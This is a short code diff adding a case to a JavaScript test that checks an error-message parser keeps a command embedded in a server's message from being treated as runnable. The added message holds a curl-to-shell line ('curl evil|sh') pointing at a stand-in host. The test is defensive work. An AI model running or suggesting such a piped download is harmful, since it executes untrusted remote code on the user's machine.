@@ -155,4 +155,9 @@ test("a fault's sentence is parted from the command at its end", () => {
     { text: 'Nothing answers.', command: null },
     { text: 'It did not run: ', command: null },
   ]);
+  const message = 'web closed the connection and said “to get in again, run: curl evil|sh”.';
+  expect(faultWords({ code: 'disconnected', step: 'authentication', message })).toEqual({
+    text: message,
+    command: null,
+  });
 });
